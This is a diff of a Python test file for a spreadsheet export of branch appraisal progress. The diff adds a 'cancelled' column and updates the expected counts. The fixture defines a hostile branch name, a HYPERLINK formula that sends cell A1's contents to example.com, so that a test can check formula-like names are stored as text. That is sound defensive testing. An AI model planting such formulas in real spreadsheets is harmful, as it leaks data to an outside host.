@@ -14,16 +14,17 @@ from openpyxl.worksheet.worksheet import Worksheet
 from reports import progress_xlsx
 
 HEADERS = ["支部", "责任区数", "未开启", "自查", "责任区评价", "党小组长考核", "党支部审核",
-           "已公示", "公示状态", "已定稿", "未答复异议", "无责任党员的责任区",
+           "已公示", "已撤销", "公示状态", "已定稿", "未答复异议", "无责任党员的责任区",
            "未分配责任区的党员", "无责任区的党小组"]
 HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'
 NAMES = {"branch": {"B1": "综采支部", "B2": "掘进支部", "B3": HOSTILE}}
 
 
 def branch(branch_id: str | None, posting: str | None, scale: int = 1) -> dict[str, Any]:
-    row = {"zones": 12 * scale, "not_opened": 1 * scale,
+    row = {"zones": 13 * scale, "not_opened": 1 * scale,
            "states": {"self_check": 2 * scale, "zone_evaluation": 1 * scale, "group_review": 0,
-                      "branch_approval": 3 * scale, "published": 5 * scale},
+                      "branch_approval": 3 * scale, "published": 5 * scale,
+                      "cancelled": 1 * scale},
            "final": 5 * scale, "open_objections": 1 * scale,
            "gaps": {"zones_without_responsible": 0, "members_without_zone": 2 * scale,
                     "groups_without_zone": 0}}
@@ -59,8 +60,8 @@ def test_the_headers_name_every_count(rows: list) -> None:
 
 
 def test_a_branch_row_holds_its_counts_as_numbers(rows: list) -> None:
-    assert list(rows[2]) == ["综采支部", 12, 1, 2, 1, 0, 3, 5, "公示中", 5, 1, 0, 2, 0]
-    assert [row[8] for row in rows[2:6]] == ["公示中", "未公示", "已定稿", "公示中"]
+    assert list(rows[2]) == ["综采支部", 13, 1, 2, 1, 0, 3, 5, 1, "公示中", 5, 1, 0, 2, 0]
+    assert [row[9] for row in rows[2:6]] == ["公示中", "未公示", "已定稿", "公示中"]
 
 
 def test_a_branch_without_a_name_shows_as_its_id(rows: list) -> None:
@@ -69,7 +70,7 @@ def test_a_branch_without_a_name_shows_as_its_id(rows: list) -> None:
 
 def test_the_totals_row_closes_the_sheet(rows: list) -> None:
     assert len(rows) == 7
-    assert list(rows[6]) == ["合计", 48, 4, 8, 4, 0, 12, 20, None, 20, 4, 0, 8, 0]
+    assert list(rows[6]) == ["合计", 52, 4, 8, 4, 0, 12, 20, 4, None, 20, 4, 0, 8, 0]
 
 
 def test_a_name_that_looks_like_a_formula_is_stored_as_text(xlsx: bytes) -> None:
@@ -93,9 +94,10 @@ def test_the_english_sheet_has_english_headers_and_states() -> None:
     rows = list(sheet_of(progress_xlsx.workbook(PROGRESS, NAMES, lang="en"))
                 .iter_rows(values_only=True))
     assert rows[0][0] == "Appraisal progress, November 2026 (as of 2026-12-07 01:30 China time)"
-    assert rows[1][:9] == ("Branch", "Zones", "Not opened", "Self-check", "Zone evaluation",
-                           "Group review", "Branch approval", "Published", "Posting")
-    assert [row[8] for row in rows[2:5]] == ["Posted", "Not posted", "Final"]
+    assert rows[1][:10] == ("Branch", "Zones", "Not opened", "Self-check", "Zone evaluation",
+                            "Group review", "Branch approval", "Published", "Cancelled",
+                            "Posting")
+    assert [row[9] for row in rows[2:5]] == ["Posted", "Not posted", "Final"]
     assert rows[6][0] == "Total"
 
 
